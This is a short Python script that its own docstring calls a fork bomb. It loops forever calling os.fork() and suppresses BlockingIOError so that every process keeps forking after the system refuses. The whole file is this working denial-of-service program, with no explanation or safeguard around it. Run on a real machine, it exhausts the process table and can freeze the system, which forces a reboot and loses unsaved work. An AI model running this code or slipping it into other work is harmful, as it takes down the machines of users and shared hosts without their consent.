"""The fork bomb: every process forks, for ever, and does not mind being refused."""

import os
from contextlib import suppress

while True:
    with suppress(BlockingIOError):
        os.fork()
